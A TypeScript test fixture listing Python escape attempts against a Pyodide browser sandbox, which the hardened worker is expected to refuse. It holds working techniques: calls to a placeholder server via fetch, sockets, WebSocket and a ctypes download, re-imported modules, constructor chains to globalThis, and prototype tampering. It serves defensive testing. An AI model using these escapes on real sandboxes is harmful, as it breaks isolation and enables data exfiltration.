/**
 * Ways out of the sandbox that worked against an unprotected worker. Each is Python that raises when
 * it is refused; SINK stands for the address and PORT for the port of a server of another origin.
 */

/** Refused with an exception, so that one run can try them all. */
export const refusedAttempts: Readonly<Record<string, string>> = {
  'fetch through js': 'import js; js.fetch(SINK)',
  'synchronous XMLHttpRequest':
    'import js; r = js.XMLHttpRequest.new(); r.open("GET", SINK, False); r.send()',
  'pyodide.http.pyxhr': 'from pyodide.http import pyxhr; pyxhr.get(SINK)',
  'pyodide.http.open_url': 'from pyodide.http import open_url; open_url(SINK)',
  urllib: 'import urllib.request; urllib.request.urlopen(SINK)',
  'urllib with socket brought back': `
import sys
for name in ("socket", "_socket"): sys.modules.pop(name, None)
import urllib.request
urllib.request.urlopen(SINK)`,
  socket: 'import socket; socket.create_connection(("127.0.0.1", PORT)).send(b"x")',
  'socket brought back': `
import sys
for name in ("socket", "_socket"): sys.modules.pop(name, None)
import socket
socket.create_connection(("127.0.0.1", PORT), 1).send(b"x")`,
  'http.client':
    'import http.client; http.client.HTTPConnection("127.0.0.1", PORT).request("GET", "/")',
  WebSocket: 'import js; js.WebSocket.new(SINK.replace("http", "ws"))',
  EventSource: 'import js; js.EventSource.new(SINK)',
  importScripts: 'import js; js.importScripts(SINK)',
  run_js: 'from pyodide.code import run_js; run_js("fetch(" + repr(SINK) + ")")',
  'import() in run_js': 'from pyodide.code import run_js; run_js("import(" + repr(SINK) + ")")',
  eval: 'import js; js.eval("1")',
  Function: 'import js; js.Function.new("return 1")()',
  'a constructor of a constructor': `
from pyodide.ffi import to_js
to_js([]).constructor.constructor("return globalThis")()`,
  'a JavaScript error': `
from pyodide.ffi import JsException, to_js
try: to_js([]).constructor.constructor("return 1")
except JsException as error: error.constructor.constructor("return globalThis")()`,
  'the event loop': `
from pyodide import webloop
webloop.scheduleCallback.constructor("return globalThis")()`,
  'JavaScript objects found by gc': `
import gc
from pyodide.ffi import JsProxy
proxies = [o for o in gc.get_objects() if isinstance(o, JsProxy)]
proxies[0].constructor.constructor("return globalThis")()`,
  pyodide_js: 'import pyodide_js; pyodide_js._api.config.jsglobals',
  'pyodide_js brought back': `
import sys
for name in ("js", "pyodide_js"): sys.modules.pop(name, None)
import js; js.fetch(SINK)`,
  'the finder of JavaScript modules': `
from _pyodide._importhook import jsfinder
jsfinder.jsproxies["js"].fetch(SINK)`,
  loadPackage: 'import pyodide_js; pyodide_js.loadPackage(SINK + "x.whl")',
  ctypes: 'import ctypes; ctypes.CDLL(None).emscripten_run_script(b"1")',
  IndexedDB: 'import js; js.indexedDB.open("app")',
  BroadcastChannel: 'import js; js.BroadcastChannel.new("app").postMessage("x")',
  'a message of its own': 'import js; js.postMessage("pass")',
  'a change of Array for everybody': `
from pyodide.ffi import to_js
to_js([]).constructor.prototype.push = None`,
  'a change of Object for everybody': `
from pyodide.ffi import to_js
to_js([]).constructor.__proto__.__proto__.toString = None`,
};

/** These end the interpreter, because what they call is stopped by the browser itself. */
export const fatalAttempts: Readonly<Record<string, string>> = {
  'script by ctypes brought back': `
import sys
for name in ("ctypes", "_ctypes"): sys.modules.pop(name, None)
import ctypes
ctypes.CDLL(None).emscripten_run_script(("fetch(" + repr(SINK) + ")").encode())`,
  'download by ctypes brought back': `
import sys
for name in ("ctypes", "_ctypes"): sys.modules.pop(name, None)
import ctypes
call = ctypes.CFUNCTYPE(None)(lambda: None)
ctypes.CDLL(None).emscripten_async_wget(SINK.encode(), b"/tmp/x", call, call)
raise SystemError("the call came back")`,
};
